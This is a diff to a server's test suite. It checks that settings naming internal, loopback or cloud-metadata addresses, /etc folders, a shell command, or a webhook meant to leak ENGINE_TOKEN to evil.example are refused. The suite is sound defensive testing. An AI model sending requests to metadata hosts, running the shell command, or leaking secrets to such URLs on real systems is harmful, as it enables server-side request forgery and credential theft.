@@ -5,6 +5,13 @@ import t from 'tap';
 import { WebSocket } from 'ws';
 import { startStudio } from './studio-rig.js';
 
+/** Spellings of this machine, its network and its cloud's metadata. */
+const INSIDE = [
+  ...['127.0.0.1', '127.1', '0x7f.0.0.1', '2130706433', 'localhost', 'localhost.', 'a.localhost', '0.0.0.0', '[::1]'],
+  ...['[::ffff:127.0.0.1]', '10.0.0.1', '192.168.1.1', '172.16.0.1', '169.254.169.254', '[fe80::1]', '[fd00:ec2::254]'],
+  ...['metadata.google.internal'],
+];
+
 t.test('pages of other sites change nothing, whatever cookie they send', async (t) => {
   const rig = await startStudio();
   t.teardown(() => rig.close());
@@ -101,8 +108,20 @@ t.test('a room may not name files, ports, keys or receivers of the machine', asy
     ['asset folders', '/control/assetFolders', ['/etc']],
     ['a key of the environment', '/control/webhooks', [{ url: 'https://evil.example/${ENGINE_TOKEN}' }]],
     ['a private receiver', '/control/webhooks', [{ url: 'http://10.0.0.1/x', allowPrivate: true }]],
+    ['a program', '/alerts', { exec: ['/bin/sh', '-c', 'id'] }],
+    ['a name inside', '/alerts', { webhooks: [{ url: 'https://hooks.example/x', allowPrivate: true }] }],
+    ['credentials of the machine', '/llm', { baseUrl: 'http://169.254.169.254/v1', model: 'm' }],
+    ['the same, wrapped', '/llm', { baseUrl: 'http://[::ffff:169.254.169.254]/v1', model: 'm' }],
   ] as const)
-    t.equal((await save(path, value)).status, 422, what);
+    t.match(await save(path, value), { status: 422, body: { error: { code: 'E_ROOM_REFUSED' } } }, what);
+  for (const host of INSIDE) {
+    const url = `http://${host}/x`;
+    t.equal((await save('/control/webhooks', [{ url }])).status, 422, `control ${host}`);
+    t.equal((await save('/alerts', { webhooks: [{ url }] })).status, 422, `alerts ${host}`);
+    const rule = { id: 'r', match: 'price', webhook: url };
+    t.equal((await save('/replies', { rules: [rule] })).status, 422, `replies ${host}`);
+  }
+  t.equal((await save('/alerts', { webhooks: [{ url: 'https://hooks.example/x' }] })).status, 200);
   t.equal((await save('/__proto__/polluted', true)).status, 400);
   t.equal(({} as { polluted?: unknown }).polluted, undefined);
 });
@@ -202,4 +221,24 @@ t.test('the engine’s own routes are handed on by a table, with their rights', 
     what: '/api/script',
     after: { segments: [] },
   });
+  const before = seen.length;
+  for (const [path, body] of [
+    ['outputs/a', { kind: 'recording', dir: '/etc' }],
+    ['outputs/a', { kind: 'v4l2', device: '/dev/video0' }],
+    ['llm', { baseUrl: 'http://169.254.169.254/v1', model: 'm' }],
+    ...INSIDE.map((host) => ['replies', { rules: [{ id: 'r', match: 'a', webhook: `http://${host}/` }] }] as const),
+    ['replies', { rules: [{ id: 'r', match: 'a', webhook: 'https://hooks.example/', allowPrivate: true }] }],
+  ] as const)
+    t.match(
+      await rig.owner.call('PUT', `${at}/api/${path}`, body),
+      { status: 422, body: { error: { code: 'E_ROOM_REFUSED' } } },
+      JSON.stringify(body),
+    );
+  t.equal(seen.length, before, 'the engine hears of none of them');
+  t.equal(
+    (await operator.call('PUT', `${at}/api/outputs/a`, { kind: 'rtmp', url: 'rtmp://a.example/b/c' })).status,
+    201,
+  );
+  t.equal((await rig.owner.call('PUT', `${at}/api/replies`, { rules: [] })).status, 201);
+  t.equal(seen.length, before + 2);
 });
